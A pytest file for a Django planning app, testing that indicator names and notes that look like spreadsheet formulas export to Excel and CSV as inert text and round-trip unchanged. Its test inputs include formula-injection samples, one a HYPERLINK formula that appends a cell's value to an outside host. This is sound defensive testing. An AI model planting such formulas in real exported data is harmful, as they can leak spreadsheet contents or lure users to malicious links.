"""Indicator text that a spreadsheet would run as a formula is exported as text and comes back
the same; a control character in a name is exported (as a line break), never a 500."""

from __future__ import annotations

import io

import openpyxl
import pytest
from django.urls import reverse

from temaplan.indicators import excel
from temaplan.indicators.excel import INDICATORS, VALUES, workbook_bytes
from temaplan.indicators.importing import indicator_workbook_import
from temaplan.testing.workbooks import cells
from temaplan.testing.workbooks import indicators_snapshot as snapshot

FORMULA_LIKE = [
    '=HYPERLINK("http://example.com/"&A2,"Klikk her")',
    "+ andel i prosent",
    "-101 arbeidsplasser",
    "@SUM(A1:A3)",
]


@pytest.mark.parametrize("text", FORMULA_LIKE)
def test_indicator_text_that_begins_like_a_formula_exports_as_text_cells_and_round_trips(
    asker_plan, text
):
    indicator = asker_plan.indicators.get(key="nho-kommune-nm-rang")
    indicator.name = indicator.footnote = text
    indicator.save()
    indicator.observations.filter(year=2020).update(source_note=text)
    data = workbook_bytes(asker_plan)
    book = openpyxl.load_workbook(io.BytesIO(data))
    headers = [cell.value for cell in book[INDICATORS][1]]
    row = book[INDICATORS][2]
    for header in (excel.NAME, excel.FOOTNOTE):
        cell = row[headers.index(header)]
        assert (cell.value, cell.data_type) == (text, "s")
    notes = [row[4] for row in book[VALUES].iter_rows(min_row=2) if row[4].value == text]
    assert [cell.data_type for cell in notes] == ["s"]
    before = snapshot()
    assert not indicator_workbook_import(plan=asker_plan, data=data).changed
    assert snapshot() == before
    assert cells(workbook_bytes(asker_plan)) == cells(data)


def test_a_name_with_a_vertical_tab_exports_with_a_line_break_instead(asker_plan, editor):
    indicator = asker_plan.indicators.get(key="nho-kommune-nm-rang")
    indicator.name = "Plassering\x0bi Kommune-NM"
    indicator.save()
    response = editor.get(reverse("indicators:excel_export", args=[asker_plan.pk]))
    assert response.status_code == 200
    data = response.content
    assert cells(data)[INDICATORS][1][1] == "Plassering\ni Kommune-NM"
    indicator_workbook_import(plan=asker_plan, data=data)
    indicator.refresh_from_db()
    assert indicator.name == "Plassering\ni Kommune-NM"
    assert cells(workbook_bytes(asker_plan)) == cells(data)


def test_the_csv_of_the_command_line_writes_formula_like_text_as_text(asker_plan):
    import csv

    from django.core.management import call_command

    indicator = asker_plan.indicators.get(key="nho-kommune-nm-rang")
    indicator.name = '=HYPERLINK("http://example.com","Klikk her")\x0b'
    indicator.save()
    out = io.StringIO()
    call_command("indicators", "show", "--municipality", "3203", "--format", "csv", stdout=out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    names = {row["name"] for row in rows if row["key"] == indicator.key}
    assert names == {'\'=HYPERLINK("http://example.com","Klikk her")\n'}
    values = [row["value"] for row in rows if row["key"] == "arbeidsplassvekst-av-befolkningsvekst"]
    assert "-101" in values  # numbers are numbers, not escaped text
